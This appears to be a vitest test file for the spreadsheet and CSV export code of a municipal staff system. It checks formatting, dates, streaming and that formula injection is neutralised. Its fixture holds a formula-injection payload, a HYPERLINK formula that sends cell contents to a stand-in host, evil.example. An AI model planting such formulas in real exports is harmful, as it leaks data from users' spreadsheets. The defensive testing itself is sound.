import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { opdOfficialsReport } from './opd-officials.js';
import { renderCsv, renderXlsx } from './tabular.js';
import { makeOpds, sampleInput } from './testing/fixtures.js';
import type { TabularExport } from './types.js';

const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"klik")';

function sampleExport(n: number): TabularExport {
  return {
    title: 'DAFTAR PEGAWAI',
    subtitle: 'PEMERINTAH KOTA CONTOH',
    columns: [
      { key: 'nama', header: 'Nama' },
      { key: 'nip', header: 'NIP', width: 22 },
      { key: 'jumlah', header: 'Jumlah', type: 'number' },
      { key: 'lahir', header: 'Tanggal Lahir', type: 'date' },
      { key: 'masuk', header: 'Login Terakhir', type: 'datetime' },
    ],
    rows: Array.from({ length: n }, (_, i) => ({
      nama: i === 0 ? INJECTION : i === 1 ? 'Siregar, Budi "Ucok"' : `Pegawai ${i + 1}`,
      nip: '198001012005011001',
      jumlah: i === 2 ? '-5' : i * 1.5,
      lahir: i === 0 ? '1980-01-31' : new Date('2026-11-22T18:30:00Z'), // 23 Nov 01:30 WIB
      masuk: new Date('2026-11-23T03:04:00Z'),
    })),
  };
}

async function readXlsx(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return wb;
}

describe('Excel and CSV exports', () => {
  it('[A6] exports a list to Excel with title, frozen filterable header, widths and real dates', async () => {
    const buf = await renderXlsx(sampleExport(10));
    const wb = await readXlsx(buf);
    const ws = wb.worksheets[0];
    expect(ws.getCell('A1').value).toBe('DAFTAR PEGAWAI');
    expect(ws.getCell('A1').font?.bold).toBe(true);
    expect(ws.getCell('A2').value).toBe('PEMERINTAH KOTA CONTOH');
    // Header on row 4: bold, filled, frozen, with autofilter over the data
    const header = ws.getRow(4);
    expect(header.values).toEqual([undefined, 'Nama', 'NIP', 'Jumlah', 'Tanggal Lahir', 'Login Terakhir']);
    expect(header.getCell(1).font?.bold).toBe(true);
    expect(header.getCell(1).fill).toMatchObject({ type: 'pattern', pattern: 'solid' });
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 4 });
    expect(ws.autoFilter).toBe('A4:E14');
    expect(ws.getColumn(2).width).toBe(22);
    // 10 data rows after the header
    expect(ws.rowCount).toBe(14);
    expect(ws.getCell('A14').value).toBe('Pegawai 10');
    // Formula injection: stored as plain text, never as a formula
    const inj = ws.getCell('A5');
    expect(inj.type).toBe(ExcelJS.ValueType.String);
    expect(inj.formula).toBeUndefined();
    expect(inj.value).toBe(INJECTION);
    // Types: NIP stays text (18 digits), numbers are numbers, dates are real dates
    expect(ws.getCell('B5').value).toBe('198001012005011001');
    expect(ws.getCell('C6').value).toBe(1.5);
    expect(ws.getCell('C7').value).toBe(-5);
    expect(ws.getCell('D5').value).toEqual(new Date(Date.UTC(1980, 0, 31)));
    expect(ws.getCell('D6').value).toEqual(new Date(Date.UTC(2026, 10, 23))); // the WIB calendar day
    expect(ws.getCell('D6').numFmt).toBe('dd/mm/yyyy');
    expect(ws.getCell('E6').value).toEqual(new Date(Date.UTC(2026, 10, 23, 10, 4)));
  });

  it('[A6] exports a list to CSV: UTF-8 BOM, RFC 4180 quoting, formula injection neutralised', async () => {
    const buf = await renderCsv(sampleExport(3));
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = buf.toString('utf8').slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('Nama,NIP,Jumlah,Tanggal Lahir,Login Terakhir');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")",198001012005011001,0,1980-01-31,2026-11-23 10:04`);
    expect(lines[2]).toBe('"Siregar, Budi ""Ucok""",198001012005011001,1.5,2026-11-23,2026-11-23 10:04');
    expect(lines[3].split(',')[2]).toBe('-5'); // a real number is not a formula
    expect(lines[4]).toBe('');
    expect(lines).toHaveLength(5);
  });

  it('[A6] neutralises every formula prefix in CSV text cells and keeps multi-line text in one field', async () => {
    const rows = ['=1+1', '+1', '-A1', '@SUM(A1)', '\tx', 'biasa', 'baris 1\nbaris 2'].map((v) => ({ v }));
    const csv = (await renderCsv({ title: 't', columns: [{ key: 'v', header: 'V' }], rows })).toString('utf8');
    expect(csv.slice(1).split('\r\n').slice(1, -1)).toEqual([
      "'=1+1",
      "'+1",
      "'-A1",
      "'@SUM(A1)",
      "'\tx",
      'biasa',
      '"baris 1\nbaris 2"',
    ]);
  });

  it('[A6] streams rows from an async source such as a database cursor', async () => {
    async function* cursor() {
      for (let i = 1; i <= 1200; i++) yield { nama: `Pegawai ${i}`, jumlah: i };
    }
    const columns = [
      { key: 'nama', header: 'Nama' },
      { key: 'jumlah', header: 'Jumlah', type: 'number' as const },
    ];
    const ws = (await readXlsx(await renderXlsx({ title: 'T', columns, rows: cursor() }))).worksheets[0];
    expect(ws.rowCount).toBe(3 + 1200); // title, blank, header (no subtitle)
    expect(ws.getCell('B1203').value).toBe(1200);
    const csv = (await renderCsv({ title: 'T', columns, rows: cursor() })).toString('utf8');
    expect(csv.trimEnd().split('\r\n').at(-1)).toBe('Pegawai 1200,1200');
  });

  it('[A2] exports the list of OPDs and officials to Excel and CSV', async () => {
    const opds = makeOpds(60);
    opds[0].headName = '@Budi';
    const xlsx = await opdOfficialsReport(sampleInput({ opds }), 'xlsx');
    expect(xlsx.filename).toBe('daftar-perangkat-daerah-dan-pejabat-2026-11-23.xlsx');
    expect(xlsx.contentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const ws = (await readXlsx(xlsx.body)).getWorksheet('Perangkat Daerah')!;
    expect(ws.getCell('A1').value).toBe('DAFTAR PERANGKAT DAERAH DAN PEJABAT');
    expect(ws.getCell('A2').value).toBe('PEMERINTAH KOTA CONTOH — Keadaan per 23 November 2026');
    expect(ws.getRow(4).values).toEqual([
      undefined,
      'No',
      'Kode',
      'Perangkat Daerah',
      'Nama Kepala',
      'NIP Kepala',
      'Jabatan Kepala',
      'Jumlah Pegawai',
    ]);
    expect(ws.rowCount).toBe(4 + 60);
    expect(ws.getRow(5).values).toEqual([
      undefined,
      1,
      '1.01.01',
      'Dinas Urusan Pemerintahan Nomor 1',
      '@Budi',
      '19800101 200501 1 001',
      undefined,
      10,
    ]);

    const csv = await opdOfficialsReport(sampleInput({ opds }), 'csv');
    expect(csv.contentType).toBe('text/csv; charset=utf-8');
    const lines = csv.body.toString('utf8').slice(1).trimEnd().split('\r\n');
    expect(lines).toHaveLength(61);
    expect(lines[1]).toBe("1,1.01.01,Dinas Urusan Pemerintahan Nomor 1,'@Budi,19800101 200501 1 001,,10");
  });

  it('[A6] exports 50 000 rows to Excel and CSV quickly', async () => {
    const opts = sampleExport(50_000);
    let t = performance.now();
    const xlsx = await renderXlsx(opts);
    const xlsxMs = performance.now() - t;
    t = performance.now();
    const csv = await renderCsv(opts);
    const csvMs = performance.now() - t;
    console.info(`50k rows: xlsx ${xlsxMs.toFixed(0)} ms (${xlsx.length} B), csv ${csvMs.toFixed(0)} ms (${csv.length} B)`);
    expect(xlsxMs).toBeLessThan(20_000);
    expect(csvMs).toBeLessThan(5_000);
    const ws = (await readXlsx(xlsx)).worksheets[0];
    expect(ws.rowCount).toBe(4 + 50_000);
    expect(ws.getCell('A50004').value).toBe('Pegawai 50000');
    expect(csv.toString('utf8').trimEnd().split('\r\n')).toHaveLength(50_001);
  });
});
